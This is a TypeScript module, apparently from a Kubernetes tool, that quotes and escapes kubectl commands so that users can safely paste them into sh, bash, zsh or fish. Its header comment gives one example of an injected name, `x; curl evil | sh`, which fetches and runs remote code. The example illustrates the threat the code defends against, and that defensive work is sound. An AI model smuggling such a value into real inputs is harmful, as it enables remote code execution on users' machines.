/**
 * Lines that people paste into a shell. Threat: the names in them are other people's. A role binding may be called `x; curl evil | sh`,
 * `--all`, or hold a terminal's own keys: every word is quoted, a name never stands without its type before it (`type/name`), so that none
 * is taken for an option, and a command that would not be read as it was meant is none: its place has a comment that says so.
 */

/** A line of what mends: words for people, or a command of kubectl. */
export type FixStep = { readonly comment: string } | { readonly args: readonly string[]; readonly stdin?: string };

export const comment = (text: string): FixStep => ({ comment: text });

export const kubectl = (...args: readonly string[]): FixStep => ({ args });

/** Applies a manifest. */
export const kubectlApply = (manifest: unknown): FixStep => ({
  args: ['apply', '-f', '-'],
  stdin: jsonArgument(manifest),
});

/** For an object that has a namespace or none. */
export const inNamespace = (namespace: string): readonly string[] => (namespace === '' ? [] : ['-n', namespace]);

/**
 * Controls, formats, what no standard gives a meaning (Unicode's category C) and line separators. Threat: pasted into a terminal they are
 * keys, and end the paste itself; zsh and fish leave some out, and then the command is about another object.
 */
const UNTYPED = /[\p{C}\p{Zl}\p{Zp}]+/gu;

/** JSON as a word of a command: what cannot be typed stands there as an escape, so it says the same. */
export const jsonArgument = (value: unknown): string =>
  JSON.stringify(value).replace(UNTYPED, (characters) =>
    characters.replaceAll(/[^]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`),
  );

/** Characters to which no shell gives a meaning. */
const PLAIN = /^[A-Za-z0-9_/:.,@+-]+$/;

/**
 * One word for sh, bash, zsh and fish alike. A backslash stands between double quotes: fish heeds it between single ones, and the history of
 * bash takes a bare one for the escape of the quote that follows.
 */
const quoted = (text: string): string =>
  `'${text.replaceAll(/['\\]/g, (one) => (one === "'" ? `'\\''` : `'"\\\\"'`))}'`;

const shellArgument = (text: string): string => (PLAIN.test(text) ? text : quoted(text));

/** Bytes that a terminal takes in one line: 1024 on macOS, 4096 on Linux. It loses the rest, and with it the end of a quote. */
export const LONGEST_TYPED = 1000;

/** Bytes of the longest command: Linux takes no argument of more than twice that. */
const LONGEST_COMMAND = 64 * 1024;

/**
 * A line that no shell acts on. Threat: an interactive zsh, as macOS has it, knows no comments, and would run the `$(…)` in a name; so the
 * words are quoted as well. The line's end, which a name may hold, would make the rest of it a command.
 */
export function commentLine(text: string): string {
  const plain = text.replaceAll(UNTYPED, ' ').trim();
  // As a whole, plain words too: a shell may have an alias for any of them.
  let line = `# ${quoted(plain)}`;
  // Cut before it is quoted, so that the quote always ends.
  for (let length = LONGEST_TYPED; Buffer.byteLength(line) > LONGEST_TYPED; length = Math.floor(length * 0.9)) {
    line = `# ${quoted(`${plain.slice(0, length)}…`)}`;
  }
  return line;
}

/** @param context of the kubeconfig. The person's current one may be another cluster, where the same names mean other objects */
export function shellLine(fix: FixStep, context: string): string {
  if ('comment' in fix) return commentLine(fix.comment);
  const { args, stdin } = fix;
  const all = ['--context', context, ...args];
  const command = ['kubectl', ...all.map(shellArgument)].join(' ');
  const line = stdin === undefined ? command : `printf %s ${shellArgument(stdin)} | ${command}`;
  if (line.search(UNTYPED) !== -1) return commandAsComment(args, 'a name in it has characters that cannot be typed');
  return Buffer.byteLength(line) > LONGEST_COMMAND ? commandAsComment(args, 'it is too long for one command') : line;
}

const commandAsComment = (args: readonly string[], why: string): string =>
  commentLine(`by hand, because ${why}: kubectl ${args.slice(0, 2).join(' ')}`);
